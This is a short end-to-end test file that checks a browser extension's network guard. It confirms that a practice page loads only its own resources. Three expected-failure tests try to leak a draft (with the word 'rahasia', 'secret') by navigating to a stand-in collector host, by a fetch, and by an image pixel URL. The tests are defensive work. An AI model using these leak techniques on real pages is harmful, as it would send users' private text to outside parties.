/** The guard that every end-to-end test runs under (extension.ts), shown to work: what it forbids makes a test fail. */
import { expect, test } from './extension.ts';

test('a practice page by itself asks for its own parts only', async ({ open }) => {
  const page = await open('x-inline');
  await expect(page.locator('[data-testid="tweetTextarea_0"]').first()).toBeVisible();
});

test.describe('would be noticed:', () => {
  test('a page of a foreign host', async ({ open }) => {
    test.fail();
    const page = await open('x-inline');
    await page.goto('https://collector.example/?draft=rahasia');
  });

  test('a fetch to the site itself', async ({ open }) => {
    test.fail();
    const page = await open('x-inline');
    await page.evaluate(() => fetch('/i/api/collect?draft=rahasia'));
  });

  test('a picture with a text in its address', async ({ open }) => {
    test.fail();
    const page = await open('x-inline');
    await page.evaluate(async () => {
      const picture = new Image();
      picture.src = '/pixel.png?draft=rahasia';
      await picture.decode().catch(() => null);
    });
  });
});
